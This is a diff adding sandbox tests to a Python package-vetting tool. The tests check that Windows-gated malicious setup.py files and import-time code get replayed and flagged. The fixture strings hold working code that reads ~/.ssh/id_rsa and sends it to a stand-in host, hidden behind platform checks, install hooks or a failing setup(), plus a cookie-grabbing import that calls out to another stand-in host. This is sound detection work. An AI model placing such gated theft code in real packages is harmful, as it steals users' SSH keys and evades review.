@@ -512,3 +512,133 @@ def test_install_and_import_time_findings_are_not_weighed() -> None:
     found = weigh([_found("PV802", "~/.netrc", Phase.IMPORT), _found("PV806", "lookup a.b",
                                                                       Phase.INSTALL)])
     assert all(f.severity is Severity.HIGH for f in found)
+
+
+# --- the setup.py replay under the Windows face (real containers) ------------------------------
+
+GATED_THEFT = """\
+import os as _os
+import socket as _socket
+
+
+def _steal():
+    try:
+        with open(_os.path.expanduser("~/.ssh/id_rsa")) as fh:
+            blob = fh.read()
+    except OSError:
+        blob = ""
+    try:
+        with _socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
+            conn.sendall(blob[:300].encode())
+    except OSError:
+        pass
+"""
+
+WINDOWS_GATES = {
+    # the theft only where sys.platform says Windows, at module level of setup.py
+    "sys-platform": GATED_THEFT + """
+import sys
+if sys.platform == "win32":
+    _steal()
+from setuptools import setup
+setup(name="gated", version="1.0", packages=["gated"])
+""",
+    # in a cmdclass `install` (pip builds a wheel, so `install.run` never runs under pip)
+    "os-name-cmdclass": GATED_THEFT + """
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class Install(install):
+    def run(self):
+        if os.name == "nt":
+            _steal()
+        install.run(self)
+
+
+setup(name="gated", version="1.0", packages=["gated"], cmdclass={"install": Install})
+""",
+    # after a setup() that fails under pip (an invalid requirement), behind platform.system()
+    "after-failing-setup": GATED_THEFT + """
+import platform
+from setuptools import setup
+setup(name="gated", version="1.0", packages=["gated"], install_requires=["not a requirement!"])
+if platform.system() == "Windows":
+    _steal()
+""",
+}
+
+MISSING_DEPENDENCY_INIT = """\
+import socket
+import cookie_grabber_not_installed as grabber
+
+cookies = grabber.chrome(domain_name="example.com")
+try:
+    socket.create_connection(("hooks.pkgvet-test.invalid", 443), timeout=3).close()
+except OSError:
+    pass
+"""
+
+WINDOWS_AWARE_SETUP = """\
+import os
+import sys
+from setuptools import setup
+from setuptools.command.build_py import build_py
+
+extra = ["colorama"] if sys.platform == "win32" else []
+
+
+class BuildPy(build_py):
+    def run(self):
+        os.makedirs("build", exist_ok=True)
+        with open(os.path.join("build", "_version.txt"), "w") as fh:
+            fh.write("1.0")
+        build_py.run(self)
+
+
+setup(name="winaware", version="1.0", packages=["winaware"], install_requires=extra,
+      cmdclass={"build_py": BuildPy})
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+@pytest.mark.parametrize("gate", sorted(WINDOWS_GATES))
+def test_windows_gated_setup_py_is_replayed_and_flagged(tmp_path: Path, gate: str) -> None:
+    path = make_sdist(tmp_path, "gated", "1.0", {"setup.py": WINDOWS_GATES[gate],
+                                                 "gated/__init__.py": ""})
+    outcome = _run(path, tmp_path)
+    found = _rules(outcome)
+    assert any(f.phase is Phase.INSTALL for f in found.get("PV801", [])), sorted(found)
+    assert any("exfil.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", []))
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_import_time_code_runs_past_a_dependency_the_sandbox_lacks(tmp_path: Path) -> None:
+    """The package cannot install offline (its dependency is nowhere), yet its import-time
+    code is replayed from the source with a stand-in for the missing module."""
+    path = make_sdist(tmp_path, "needsdep", "1.0", {
+        "setup.py": "from setuptools import setup\nsetup(name='needsdep', version='1.0', "
+                    "packages=['needsdep'], install_requires=['cookie-grabber-not-installed'])\n",
+        "needsdep/__init__.py": MISSING_DEPENDENCY_INIT,
+    })
+    outcome = _run(path, tmp_path)
+    found = _rules(outcome)
+    assert any("hooks.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", [])), \
+        sorted(found)
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_a_windows_aware_setup_py_replays_clean(tmp_path: Path) -> None:
+    path = make_sdist(tmp_path, "winaware", "1.0", {"setup.py": WINDOWS_AWARE_SETUP,
+                                                    "winaware/__init__.py": ""})
+    outcome = _run(path, tmp_path)
+    labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
+    assert "setup.py (windows face)" in labels
+    assert outcome.report.installable
+    assert outcome.report.verdict is Verdict.BENIGN, [f.rule_id for f in outcome.findings]
